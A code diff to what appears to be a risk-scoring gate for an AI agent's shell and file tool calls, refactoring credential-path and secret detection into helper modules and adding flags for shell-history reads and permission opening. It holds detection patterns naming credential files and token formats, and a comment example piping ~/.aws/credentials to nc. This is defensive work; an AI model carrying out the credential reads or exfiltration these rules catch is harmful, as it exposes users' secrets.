@@ -24,7 +24,12 @@ import re
 from dataclasses import dataclass
 
 from neuroplast.gate.calls import MAX_FIELD_CHARS, ToolCall, clip_text
+from neuroplast.gate.credentials import credential_kind
+from neuroplast.gate.outputs import option_values, output_files
 from neuroplast.gate.paths import path_zone, resolve_path
+from neuroplast.gate.permissions import opens_permissions
+from neuroplast.gate.secret_args import secret_in_arguments
+from neuroplast.gate.secret_scan import secret_in_text
 from neuroplast.gate.shell import Segment, split_command
 
 __all__ = ["RISK_FLAGS", "RiskReport", "inspect_call"]
@@ -53,8 +58,15 @@ RISK_FLAGS: dict[str, float] = {
     "shell_rc_write": 0.8,
     "system_path_write": 0.8,
     "write_outside_project": 0.5,
+    # added last, so the flags before keep their positions (support memory stores bits)
+    "shell_history_read": 0.6,  # below credential reads: histories are read for good reasons
+    "permission_opening": 0.7,  # files made writable by other users (permissions.py)
 }
 _SEVERE = 0.9
+# What reading or writing a secret store raises, by its kind (credentials.py). A write to a
+# history is tampering with it, as truncating one is.
+_READ_FLAG = {"credential": "credential_path_read", "history": "shell_history_read"}
+_WRITE_FLAG = {"credential": "credential_path_write", "history": "history_tampering"}
 
 _WRITE_TOOLS = frozenset({"Write", "Edit", "MultiEdit", "NotebookEdit"})
 _READ_TOOLS = frozenset({"Read", "Grep", "Glob", "LS", "NotebookRead"})
@@ -62,27 +74,10 @@ _SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "python", "pyth
                      "ruby", "node", "php", "pwsh", "source", "."})
 _FETCHERS = frozenset({"curl", "wget", "fetch", "iwr", "invoke-webrequest", "http", "aria2c"})
 
+# PEM private keys of any kind (RFC 7468 §10-11: "PRIVATE KEY", "ENCRYPTED PRIVATE KEY",
+# "RSA PRIVATE KEY"...; OpenSSH's "OPENSSH PRIVATE KEY"; OpenPGP's "PRIVATE KEY BLOCK").
+# Other secrets in text: secret_scan.py (detect-secrets); on command lines: secret_args.py.
 _PRIVATE_KEY = re.compile(r"-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY(?: BLOCK)?-----")
-_SECRETS = re.compile(
-    r"(?:AKIA|ASIA)[0-9A-Z]{16}"  # AWS access key id
-    r"|gh[pousr]_[A-Za-z0-9]{36,}|github_pat_[A-Za-z0-9_]{40,}"  # GitHub tokens
-    r"|xox[abprs]-[A-Za-z0-9-]{10,}"  # Slack tokens
-    r"|sk-[A-Za-z0-9_-]{20,}"  # OpenAI/Anthropic-style API keys
-    r"|AIza[0-9A-Za-z_-]{35}"  # Google API key
-    r"|eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}"  # JWT
-    r"|(?i:aws_secret_access_key)\s*[=:]\s*\S{20,}"
-    r"|(?i:\b(?:password|passwd|pwd|secret|api[_-]?key|access[_-]?token|auth[_-]?token"
-    r"|client[_-]?secret)\b)[\"']?\s*[=:]\s*[\"']?[^\s\"'$<{][^\s\"']{5,}"
-)
-# Paths whose contents are credentials (matched against the resolved path).
-_CREDENTIAL_PATH = re.compile(
-    r"(?:^|/)(?:\.ssh(?:/|$)|\.aws(?:/|$)|\.gnupg(?:/|$)|\.kube/config|\.docker/config\.json"
-    r"|\.netrc$|\.pgpass$|\.npmrc$|\.pypirc$|\.git-credentials$|\.config/gcloud(?:/|$)"
-    r"|\.azure(?:/|$)"
-    r"|\.env(?:\.(?!example$|sample$|template$|dist$)[\w.-]+)?$|id_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?$|[^/]*\.pem$|[^/]*\.key$"
-    r"|credentials(?:\.json)?$|secrets?\.(?:ya?ml|json|toml)$)"
-    r"|^/etc/(?:shadow|gshadow|sudoers)|^/etc/ssl/private/"
-)
 # Startup files a write to which runs code in every later shell (persistence).
 _SHELL_RC = re.compile(
     r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|zlogin"
@@ -140,10 +135,12 @@ _IN_PLACE = {"sed": _SED_IN_PLACE, "gsed": _SED_IN_PLACE,
 _PROGRAM_OPTIONS = {"sed": {"-e", "--expression", "-f", "--file"}, "perl": {"-e", "-E"}}
 # Options that name the directory a program writes into (tar -x -C, unzip -d, cp -t,
 # git apply --directory): the files land there, as if it were the last argument of cp.
+# wget -P/--directory-prefix (wget manual) and curl --output-dir (curl(1)) likewise.
 _TARGET_DIRECTORY_OPTIONS: dict[str, tuple[str, ...]] = {
     "tar": ("-C", "--directory"), "unzip": ("-d",), "cp": ("-t", "--target-directory"),
     "mv": ("-t", "--target-directory"), "install": ("-t", "--target-directory"),
     "ln": ("-t", "--target-directory"), "git": ("--directory",),
+    "wget": ("-P", "--directory-prefix"), "curl": ("--output-dir",),
 }
 # Inline interpreter code that serves files or a shell to other machines.
 _INTERPRETERS = frozenset({"python", "python2", "python3", "perl", "ruby", "node", "php"})
@@ -220,19 +217,22 @@ def _check_bash(call: ToolCall, command: str, flags: set[str]) -> None:
         flags.add("history_tampering")
     if _LIBRARY_LOAD.search(command):
         flags.add("library_load")
-    if _PRIVATE_KEY.search(command) or _SECRETS.search(command):
+    if _PRIVATE_KEY.search(command) or secret_in_text(command):
         flags.add("secret_in_content")
     _check_raw_ip(command, flags)
     if _BANG_SHELL.search(command):  # a "!sh" line typed into a pager or editor
         flags.add("shell_escape")
     # Credential paths anywhere in the line, also inside quotes and substitutions
     # (bash -c 'echo "$(<~/.netrc)"'): reading them is what matters, not which program does.
+    found: set[str] = set()
     for token in _TOKEN_SPLIT.split(command):
-        if ("/" in token or token.startswith(".")) and _CREDENTIAL_PATH.search(
-            resolve_path(token, call.cwd)
-        ):
-            flags.add("credential_path_read")
-            break
+        if "/" in token or token.startswith("."):
+            kind = credential_kind(resolve_path(token, call.cwd))
+            if kind:
+                found.add(_READ_FLAG[kind])
+                if len(found) == len(_READ_FLAG):
+                    break
+    flags |= found
     # cat ~/.aws/credentials | nc host 443 : a file piped into a network sender
     for k, seg in enumerate(segments):
         if k and seg.joiner in ("|", "|&") and seg.head in _NET_SENDERS and any(
@@ -265,8 +265,9 @@ def _check_arguments(call: ToolCall, seg: Segment, flags: set[str]) -> None:
             if not part or (part.startswith("-") and part == word):
                 continue
             full = resolve_path(part, call.cwd)
-            if _CREDENTIAL_PATH.search(full):
-                flags.add("credential_path_read")
+            kind = credential_kind(full)
+            if kind:
+                flags.add(_READ_FLAG[kind])
             if _RAW_DEVICE.search(full):
                 flags.add("raw_device")
             if seg.head not in _VIEWERS and _SHELL_RC.search(full.rstrip("/")):
@@ -343,13 +344,18 @@ def _check_segment(call: ToolCall, seg: Segment, flags: set[str]) -> None:
                 flags.add("disk_overwrite")
     if head in ("cat", "less", "more", "head", "tail", "cp", "scp", "base64", "xxd", "strings"):
         for a in args:
-            if _CREDENTIAL_PATH.search(resolve_path(a, call.cwd)):
-                flags.add("credential_path_read")
-    for target in (*_operand_write_targets(seg), *_script_write_targets(seg),
-                   *_target_directories(seg)):
+            kind = credential_kind(resolve_path(a, call.cwd))
+            if kind:
+                flags.add(_READ_FLAG[kind])
+    for target in dict.fromkeys((*_operand_write_targets(seg), *_script_write_targets(seg),
+                                 *_target_directories(seg))):  # each distinct path once
         _check_write_target(call, target, flags)
     if head in ("sed", "gsed") and any(_sed_runs_commands(s) for s in _scripts(seg)):
         flags.add("shell_escape")
+    if secret_in_arguments(seg):
+        flags.add("secret_in_content")  # a password typed into the call: in ps, logs, history
+    if opens_permissions(seg, call.cwd):
+        flags.add("permission_opening")
     if head == "git" and seg.subcommand == "apply" and "--unsafe-paths" in argv:
         flags.add("write_outside_project")  # git's own guard against such writes, turned off
     if head.startswith("pip") and "--break-system-packages" in argv:
@@ -441,14 +447,7 @@ def _target_directories(seg: Segment) -> list[str]:
         return []
     if seg.head == "tar" and not _tar_extracts(argv):
         return []  # tar -C only names where files are read from unless it extracts
-    found = []
-    for i, a in enumerate(argv[1:], 1):
-        name, eq, value = a.partition("=")
-        if name in options and eq:
-            found.append(value)
-        elif a in options and i + 1 < len(argv):
-            found.append(argv[i + 1])
-    return found
+    return option_values(argv, options)  # -C DIR, -t DIR, -rt DIR, -tDIR, --directory=DIR
 
 
 def _tar_extracts(argv: tuple[str, ...]) -> bool:
@@ -461,22 +460,32 @@ def _tar_extracts(argv: tuple[str, ...]) -> bool:
 
 
 def _operand_write_targets(seg: Segment) -> list[str]:
-    """Files a command writes because they are its operands, as its manual defines them.
+    """Files a command writes because they are its operands or name its output, as its
+    manual defines them (``outputs.py`` has the output options: ``curl -o``, ``tar cf``...).
 
     >>> from neuroplast.gate.shell import split_command
     >>> cmd = ("touch -t 2401010000 notes.md /var/log/syslog; sed -i bak 's/a/b/' /etc/hosts; "
     ...        "sed -i -e 's/a/b/' x.conf; perl -pi -e 's/a/b/' /etc/motd; ln -s a /usr/bin/a; "
-    ...        "dd if=x.img of=/boot/x.img; sed 's/a/b/' /etc/hosts")
+    ...        "dd if=x.img of=/boot/x.img; sed 's/a/b/' /etc/hosts; tar cf /etc/passwd src; "
+    ...        "cp -t /etc a b; curl -o /tmp/x https://x.io")
     >>> [_operand_write_targets(seg) for seg in split_command(cmd)]
     [['2401010000', 'notes.md', '/var/log/syslog'], ['s/a/b/', '/etc/hosts'], ['x.conf'], \
-['/etc/motd'], ['/usr/bin/a'], ['/boot/x.img'], []]
+['/etc/motd'], ['/usr/bin/a'], ['/boot/x.img'], [], ['/etc/passwd'], [], ['/tmp/x']]
     """
+    return [*_changed_operands(seg), *output_files(seg)]
+
+
+def _changed_operands(seg: Segment) -> list[str]:
+    """Operands a command changes: every one (touch, chmod, tee), the destination (cp's last
+    operand, unless -t names a directory instead), dd's of=, the files of sed -i/perl -i."""
     argv, head = seg.argv, seg.head
     operands = [a for a in argv[1:] if not a.startswith("-")]
     if head in _MODIFIES_OPERANDS:
         return operands  # a mode, owner or option value resolves inside the project: no flag
     if head in _COPIES and len(operands) >= 2:
-        return operands[-1:]
+        # with -t DIR every operand is a source (_target_directories lists DIR)
+        into = option_values(argv, _TARGET_DIRECTORY_OPTIONS.get(head, ()))
+        return [] if into else operands[-1:]
     if head == "dd":
         return [a[3:] for a in argv[1:] if a.startswith("of=")]
     in_place = _IN_PLACE.get(head)
@@ -520,8 +529,9 @@ def _check_write_target(call: ToolCall, path: str, flags: set[str]) -> None:
         return
     zone = path_zone(path, call.cwd)
     full = resolve_path(path, call.cwd)
-    if _CREDENTIAL_PATH.search(full):
-        flags.add("credential_path_write")
+    kind = credential_kind(full)
+    if kind:
+        flags.add(_WRITE_FLAG[kind])
     if _SHELL_RC.search(full):
         flags.add("shell_rc_write")
     if _RAW_DEVICE.search(full):
@@ -541,8 +551,9 @@ def inspect_call(call: ToolCall) -> RiskReport:
     path = call.file_path
     if path and tool in _WRITE_TOOLS:
         _check_write_target(call, path, flags)
-    if path and tool in _READ_TOOLS and _CREDENTIAL_PATH.search(resolve_path(path, call.cwd)):
-        flags.add("credential_path_read")
+    kind = credential_kind(resolve_path(path, call.cwd)) if path and tool in _READ_TOOLS else None
+    if kind:
+        flags.add(_READ_FLAG[kind])
     if call.url:
         _check_raw_ip(call.url, flags)
     content = call.content
@@ -551,6 +562,6 @@ def inspect_call(call: ToolCall) -> RiskReport:
         head = clip_text(content, MAX_FIELD_CHARS * 4)
         if _PRIVATE_KEY.search(head):
             flags.add("private_key_in_content")
-        if _SECRETS.search(head):
+        if secret_in_text(head, path):
             flags.add("secret_in_content")
     return _report(flags)
